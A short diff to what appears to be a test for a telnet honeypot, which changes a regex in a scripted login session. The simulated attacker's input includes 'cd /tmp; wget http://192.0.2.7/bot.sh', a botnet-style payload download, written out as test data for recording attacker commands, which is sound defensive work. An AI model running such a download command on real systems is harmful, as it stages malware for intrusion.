@@ -66,7 +66,7 @@ test('telnet: a login that the lure lets in finds a shell, and its commands are 
         ['login: $', LURED.username],
         ['Password: $', LURED.password],
         ['\\$ $', 'uname -s'],
-        ['Linux', 'cd /tmp; wget http://192.0.2.7/bot.sh'],
+        ['Linux.*\\$ $', 'cd /tmp; wget http://192.0.2.7/bot.sh'],
       ],
       '\\$ $',
     ),
